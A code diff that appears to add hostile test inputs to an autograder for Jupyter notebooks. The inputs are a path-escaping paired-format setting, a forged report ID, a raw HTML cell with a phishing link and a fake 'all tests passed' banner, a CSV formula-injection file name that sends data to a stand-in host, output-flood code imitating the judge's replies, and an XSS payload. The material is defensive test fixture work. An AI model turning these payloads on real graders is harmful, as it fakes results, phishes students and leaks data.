@@ -205,6 +205,31 @@ def {exercise_name}(q, k, v, mask=None):
 '''
 
 
+# notebook metadata pairing the notebook with a text file one folder up (Jupytext writes it on every save)
+PAIRED_FORMATS = "ipynb,../x_//py:percent"
+# a misconception of notebook 07 that no answer of 00 can show: forged into the class report, it would be seen
+FORGED_ID = "kv_cache.bits_not_bytes"
+# a raw cell (no format: nbconvert's HTML puts it into the page as is): a link and a fake verdict
+RAW_HTML = (
+    '<a href="https://phish.invalid/regrade">Regrade request</a>'
+    '<div class="alert alert-success">All tests passed: 10 / 10</div>'
+)
+# a handed-in file whose name, in the notes of the CSV, holds `;=`: a new cell, and a formula, for a
+# spreadsheet in a locale that separates CSV fields with `;`
+FORMULA_FILE = 'notes;=HYPERLINK("x.invalid?"&A2).txt'
+# a cell printing 20 outputs of 4000 characters: the most the judge keeps of one cell
+PRINTS_A_LOT = 'for _i in range(20):\n    print("y" * 3999, flush=True)'
+# prints 2 MiB lines that look like the judge's replies for 4 s, then how many characters it sent
+PRINT_FLOOD = """
+import sys, time
+line = "__HM_REPLY__" + "x" * (2**21 - 20) + "\\n"
+sent, start = 0, time.time()
+while time.time() - start < 4:
+    sys.stdout.write(line)
+    sys.stdout.flush()
+    sent += len(line)
+print("__HM_REPLY__sent", sent)
+"""
 XSS = '<script>document.title="HOSTILE-XSS"</script><img src="x" onerror="document.title=\'HOSTILE-IMG\'">'
 
 # Reads the instructor's test source if it ever runs in the kernel, and prints it.
